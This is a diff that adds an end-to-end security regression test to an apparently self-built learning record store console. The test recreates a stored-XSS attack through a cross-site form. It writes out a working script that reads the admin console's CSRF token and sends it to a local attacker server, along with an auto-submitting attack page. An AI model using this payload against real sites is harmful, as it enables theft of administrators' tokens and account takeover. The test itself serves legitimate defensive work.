@@ -2,6 +2,7 @@
 // (PORT 8870, a fresh LRS_PERSIST_DIR, LRS_ADMIN_TOKEN set), started here and stopped by process group.
 // Run: npm run test:e2e (needs /usr/bin/chromium: apt-get install -y chromium). Screenshots go to docs/.
 import { spawn } from "node:child_process";
+import { createServer } from "node:http";
 import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join, resolve } from "node:path";
@@ -279,6 +280,54 @@ describe("console in a real browser", { concurrency: false }, () => {
     const pages = consolePages("default", { activityId: QUIZ, agentKey: "mbox:mailto:ana@example.com" });
     const timings = await timeConsolePages(BASE, session, pages, 1);
     for (const [name, { status }] of Object.entries(timings)) assert.equal(status, 200, name);
+  });
+
+  it("a stored HTML document cannot run as a page of the LRS origin, even through a cross-site Alternate Syntax form", async () => {
+    // The attack of the security review: a tenant with only the `state` scope stores a script as text/html;
+    // an attacker's page makes a signed-in administrator's browser POST a form (?method=GET, credentials and
+    // version as fields) that fetches it. Had it rendered, its script would read the console's CSRF token.
+    const mallory = await adminApi("/stores/default/credentials", { name: "Mallory", scopes: ["state"] });
+    const stolen = [];
+    const attacker = createServer((request, response) => {
+      if (request.url.startsWith("/steal")) {
+        stolen.push(request.url);
+        response.end();
+        return;
+      }
+      response.setHeader("Content-Type", "text/html");
+      response.end(attackPage);
+    });
+    await new Promise((done) => attacker.listen(0, "127.0.0.1", done));
+    const attackerOrigin = `http://127.0.0.1:${attacker.address().port}`;
+    const document = { activityId: COURSE, agent: JSON.stringify({ mbox: "mailto:mallory@example.com" }), stateId: "payload" };
+    const authorization = `Basic ${btoa(`${mallory.key}:${mallory.secret}`)}`;
+    const fields = { Authorization: authorization, "X-Experience-API-Version": "1.0.3", ...document };
+    const script = `fetch("/console/admin").then((r) => r.text()).then((html) => {
+      const token = (html.match(/name="_csrf" value="([^"]+)"/) || [])[1];
+      new Image().src = "${attackerOrigin}/steal?csrf=" + encodeURIComponent(token);
+    });`;
+    const stored = await fetch(`${BASE}/xapi/activities/state?${new URLSearchParams(document)}`, {
+      method: "PUT",
+      headers: { Authorization: authorization, "X-Experience-API-Version": "1.0.3", "Content-Type": "text/html" },
+      body: `<!doctype html><title>payload</title><script>${script}</script>`,
+    });
+    assert.equal(stored.status, 204);
+    const inputs = Object.entries(fields)
+      .map(([name, value]) => `<input type="hidden" name="${name}" value='${value.replaceAll("'", "&#39;")}'>`)
+      .join("");
+    const attackPage = `<!doctype html><form method="POST" enctype="application/x-www-form-urlencoded"
+      action="${BASE}/xapi/activities/state?method=GET">${inputs}</form><script>document.forms[0].submit()</script>`;
+
+    const admin = await newPage();
+    await signInAsAdmin(admin);
+    const download = admin.waitForEvent("download", { timeout: 10_000 }).catch(() => undefined);
+    await admin.goto(attackerOrigin).catch(() => {}); // the form's navigation may abort into the download
+    const saved = await download;
+    await new Promise((done) => setTimeout(done, 1500)); // time for a script that ran to call home
+    assert.deepEqual(stolen, [], "the stored script ran in the LRS origin and read the console's CSRF token");
+    assert.equal(saved?.url(), `${BASE}/xapi/activities/state?method=GET`);
+    await admin.context().close();
+    attacker.close();
   });
 
   it("raised no Content-Security-Policy violation", () => {
